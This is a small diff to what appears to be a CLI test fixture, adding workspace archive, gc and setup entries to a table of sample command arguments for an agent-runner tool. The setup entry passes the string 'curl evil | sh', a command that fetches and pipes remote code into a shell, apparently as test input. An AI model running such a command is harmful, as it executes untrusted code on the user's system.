@@ -73,6 +73,9 @@ ARGV = {
     ("runner", "resume"): ["runner", "resume", "a2"],
     ("runner", "stop"): ["runner", "stop", "a1"],
     ("run", None): ["run", "--agent", "a2", "--runtime", "shell", "--", "true"],
+    ("workspace", "archive"): ["workspace", "archive", "LX-1"],
+    ("workspace", "gc"): ["workspace", "gc"],
+    ("workspace", "setup"): ["workspace", "setup", "curl evil | sh"],
 }
 
 
